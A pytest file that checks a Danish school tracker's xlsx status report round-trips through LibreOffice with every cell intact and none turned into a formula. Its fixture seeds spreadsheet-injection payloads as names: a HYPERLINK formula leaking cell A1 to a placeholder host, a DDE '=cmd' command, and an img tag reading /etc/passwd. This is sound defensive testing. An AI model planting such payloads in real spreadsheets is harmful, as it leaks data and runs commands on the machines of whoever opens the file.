"""The status report in LibreOffice: it opens, every cell is read back, and nothing is a formula."""

from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from gf2tracker.actions import demo
from gf2tracker.queries import status
from gf2tracker.reports.status import write_status
from tests import given
from tests.reports.openings import converted, rows_of

TODAY = date(2026, 11, 19)
EVIL = '=HYPERLINK("http://x.example/"&A1;"klik")'
IMAGE = 'Bo<img src="file:///etc/passwd">'


@pytest.fixture
def report(sqlite_store, tmp_path):
    sqlite_store.do(demo.build, TODAY, 3)
    made = given.a_class(sqlite_store, "=cmd|' /C calc'!A0", starts_on=TODAY)
    for name in (EVIL, IMAGE, "+45 15", "-2+3", "@SUM(A1)", "_x0041_", "#REF!"):
        given.student(sqlite_store, f"{name} Ågård", made.id)
    told = sqlite_store.ask(status.status, None, TODAY).value
    write_status(told, tmp_path / "status.xlsx", made_by="=1+1", today=TODAY)
    return tmp_path / "status.xlsx"


def plain(value):
    """Return a value as both programs write it: dates without time, shares rounded."""
    if isinstance(value, datetime):
        return value.date()
    if isinstance(value, str):
        return value.replace("_x005F_", "_")
    return round(value, 9) if isinstance(value, float) else value


def filled(rows):
    """Return rows as (row, column, value) of the cells that hold something."""
    return [
        (row, column, plain(value))
        for row, values in enumerate(rows)
        for column, value in enumerate(values)
        if value is not None
    ]


@pytest.mark.slow
@pytest.mark.timeout(120)
def test_every_cell_is_read_back(report, soffice, tmp_path):
    again = converted(soffice, report, tmp_path, "xlsx")
    book = load_workbook(again)
    assert book.sheetnames == [
        "Overblik",
        "Elever",
        "Fravær",
        "Makkere og grupper",
        "Aktiviteter",
        "Opfølgning",
        "Om rapporten",
    ]
    for name in book.sheetnames:
        assert filled(rows_of(again, name)) == filled(rows_of(report, name)), name
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type in {"f", "e"}]
    names = {row[2] for row in rows_of(again, "Elever", 5)}
    assert {f"{EVIL} Ågård", f"{IMAGE} Ågård"} <= names
    assert len(book["Overblik"]._charts) == 2
    assert len(book["Elever"].tables) == 1
    assert book["Elever"].conditional_formatting


@pytest.mark.slow
@pytest.mark.timeout(120)
def test_it_prints_as_many_pages_as_it_should(report, soffice, tmp_path):
    pdf = converted(soffice, report, tmp_path, "pdf").read_bytes()
    pages = pdf.count(b"/Type/Page\n") + pdf.count(b"/Type /Page\n") + pdf.count(b"/Type/Page/")
    assert 10 <= pages <= 15  # overview, students on 2, a page a class, pairs, plans on 4, about
